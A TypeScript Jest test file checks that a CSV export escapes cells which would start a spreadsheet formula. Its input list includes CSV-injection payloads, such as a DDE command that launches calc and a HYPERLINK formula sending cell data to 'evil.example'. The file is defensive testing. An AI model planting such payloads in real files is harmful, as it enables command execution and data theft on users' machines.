import { describe, expect, test } from '@jest/globals';
import Papa from 'papaparse';
import { encodeRows } from '../../../src/evidence/exports/encode-rows.ts';
import { harmlessText } from '../../../src/evidence/exports/harmless-text.ts';

/** Whether a spreadsheet that strips what is not seen, and folds widths, would take a cell for a formula. */
function isFormula(cell: string): boolean {
  const seen = cell.normalize('NFKC').replace(/^[\s\p{Cc}\p{Cf}\p{Z}]+/u, '');
  return /^[=+@\-\u2010-\u2015\u2212]/.test(seen);
}

async function csvOf(cells: readonly string[]): Promise<string> {
  const rows = async function* () {
    for (const cell of cells) yield { cell };
  };
  const columns = [
    { name: 'before', of: () => 'x' },
    { name: 'cell', of: (row: { readonly cell: string }) => row.cell },
    { name: 'after', of: () => 'y' },
  ];
  const chunks = await Array.fromAsync(encodeRows(rows(), 'csv', columns));
  return chunks.map(({ text }) => text).join('');
}

/** As a parser of others reads it. */
function parsed(csv: string, delimiter = ','): string[][] {
  return Papa.parse<string[]>(csv.replace('\uFEFF', ''), { delimiter, skipEmptyLines: true }).data;
}

const hostile: readonly { readonly of: string; readonly cell: string; readonly becomes?: string }[] = [
  { of: 'a formula', cell: '=1+1', becomes: "'=1+1" },
  { of: 'a command', cell: "=cmd|' /C calc'!A0" },
  { of: 'a link', cell: '=HYPERLINK("https://evil.example?"&A1,"more")' },
  { of: 'a plus', cell: '+31 6 1234', becomes: "'+31 6 1234" },
  { of: 'a minus', cell: '-2+3', becomes: "'-2+3" },
  { of: 'an at', cell: '@SUM(A1:A9)', becomes: "'@SUM(A1:A9)" },
  { of: 'a tab', cell: '\t=1', becomes: "'\t'=1" },
  { of: 'a tab alone', cell: '\tname', becomes: "'\tname" },
  { of: 'a carriage return', cell: '\r=1' },
  { of: 'a line feed', cell: '\n=1', becomes: "'\n'=1" },
  { of: 'both line ends', cell: '\r\n=1' },
  { of: 'NUL', cell: '\u0000=1', becomes: "'\u0000=1" },
  { of: 'NUL alone', cell: '\u0000name', becomes: "'\u0000name" },
  { of: 'a bell', cell: '\u0007=1' },
  { of: 'escape', cell: '\u001b=1' },
  { of: 'delete', cell: '\u007f=1' },
  { of: 'a C1 control', cell: '\u0085=1' },
  { of: 'a space', cell: ' =1', becomes: "' =1" },
  { of: 'many spaces', cell: '     +1' },
  { of: 'a space of no break', cell: '\u00a0=1' },
  { of: 'an ideographic space', cell: '\u3000=1' },
  { of: 'a space of no width', cell: '\u200b=1' },
  { of: 'a joiner', cell: '\u200d@x' },
  { of: 'a byte order mark', cell: '\ufeff=1' },
  { of: 'a mark of direction', cell: '\u202e=1' },
  { of: 'a soft hyphen', cell: '\u00ad=1' },
  { of: 'a word joiner', cell: '\u2060=1' },
  { of: 'a line separator', cell: '\u2028=1' },
  { of: 'a full-width equals', cell: '＝1', becomes: "'＝1" },
  { of: 'a full-width plus', cell: '＋1', becomes: "'＋1" },
  { of: 'a full-width minus', cell: '－1', becomes: "'－1" },
  { of: 'a full-width at', cell: '＠x', becomes: "'＠x" },
  { of: 'a space and a full-width equals', cell: ' ＝1' },
  { of: 'a small equals', cell: '\ufe661' },
  { of: 'a small plus', cell: '\ufe621' },
  { of: 'a small at', cell: '\ufe6bx' },
  { of: 'a small minus', cell: '\ufe631' },
  { of: 'a raised equals', cell: '\u207c1' },
  { of: 'a raised plus', cell: '\u207a1' },
  { of: 'a lowered minus', cell: '\u208b1' },
  { of: 'the minus of mathematics', cell: '\u22121' },
  { of: 'a long dash', cell: '\u20141' },
  { of: 'quotes that end the cell', cell: '","=1' },
  { of: 'a semicolon, where that separates', cell: 'x;=1', becomes: "x;'=1" },
  { of: 'a quote and a semicolon', cell: 'x";=1', becomes: 'x";\'=1' },
  { of: 'a semicolon and spaces', cell: 'x; \u200b=1' },
  { of: 'a tab in the middle', cell: 'x\t@SUM(1)' },
  { of: 'a line in the middle', cell: 'x\n=1\n+2', becomes: "x\n'=1\n'+2" },
  { of: 'a bar', cell: 'x|-1' },
  { of: 'a quoted sign after a separator', cell: 'x;"=1' },
];

const harmless = [
  'Ada Lovelace',
  'a-b',
  'a = b',
  "O'Brien",
  'Ops, Tier-0',
  'x; y',
  'https://a.example/?b=c',
  '',
  'Zoë 李',
];

describe('text in a CSV', () => {
  test.each(hostile)('that begins a formula behind $of is made harmless', ({ cell, becomes }) => {
    const guarded = harmlessText(cell);
    if (becomes !== undefined) expect(guarded).toBe(becomes);
    expect(isFormula(guarded)).toBe(false);
    expect(guarded.replaceAll("'", '')).toBe(cell.replaceAll("'", ''));
  });

  test.each(harmless)('that begins none stays as it is: %j', (text) => {
    expect(harmlessText(text)).toBe(text);
  });

  test('is read back by a parser that is not ours, each cell whole and in its place', async () => {
    const rows = parsed(await csvOf(hostile.map(({ cell }) => cell)));

    expect(rows).toHaveLength(hostile.length + 1);
    expect(rows.slice(1).map(([, cell]) => cell)).toEqual(hostile.map(({ cell }) => harmlessText(cell)));
    expect(rows.slice(1).every(([before, , after]) => before === 'x' && after === 'y')).toBe(true);
  });

  test.each([',', ';', '\t', '|'])('is no formula for a program that separates by %j', async (delimiter) => {
    const rows = parsed(await csvOf(hostile.map(({ cell }) => cell)), delimiter);

    expect(rows.flat().filter(isFormula)).toEqual([]);
  });
});
